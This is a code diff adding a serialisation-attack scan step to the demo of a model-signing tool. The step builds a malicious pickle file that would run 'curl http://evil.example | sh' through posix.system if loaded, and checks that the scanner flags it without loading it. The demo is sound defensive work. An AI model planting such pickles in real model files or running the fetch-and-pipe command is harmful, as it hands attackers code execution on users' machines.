@@ -79,10 +79,31 @@ def _play(workdir: Path) -> None:
             out.print(f"     {escape(line)}")
     else:
         raise InputError("the tampered model verified: this is a bug, please report it")
+    _scan_step(workdir, model)
     out.print(
-        "\n[bold green]Demo complete:[/] sign → verify → tamper → rejected. "
+        "\n[bold green]Demo complete:[/] sign → verify → tamper → rejected → scan. "
         "Try it on your own model with the commands above."
     )
+
+
+def _scan_step(workdir: Path, model: Path) -> None:
+    """Scan the clean model, then a pickle that would run a command if anyone loaded it (nobody does)."""
+    from modelseal.scanning.findings import Severity
+    from modelseal.scanning.scanner import scan_paths
+
+    _step(5, f"Scan for serialisation attacks:  modelseal scan {model.name}")
+    flagged = [r for r in scan_paths([model]) if r.findings]
+    out.print(
+        f"   [green]no findings[/] in {model.name}" if not flagged else f"   [red]unexpected findings[/]: {flagged}"
+    )
+    trap = workdir / "downloaded-model.bin"
+    command = b"curl http://evil.example | sh"
+    trap.write_bytes(b"\x80\x04cposix\nsystem\n(\x8c" + bytes([len(command)]) + command + b"tR.")
+    finding = max(scan_paths([trap])[0].findings, key=lambda f: f.severity)
+    if finding.severity < Severity.HIGH:
+        raise InputError("the malicious demo pickle was not flagged: this is a bug, please report it")
+    out.print(f"   {trap.name}: [red bold]{finding.severity.name}[/] {escape(finding.message)}")
+    out.print(f"     would run: [bold]{escape(finding.payload or '')}[/] (it was read, never loaded)")
 
 
 def run_demo(directory: Path | None = None) -> None:
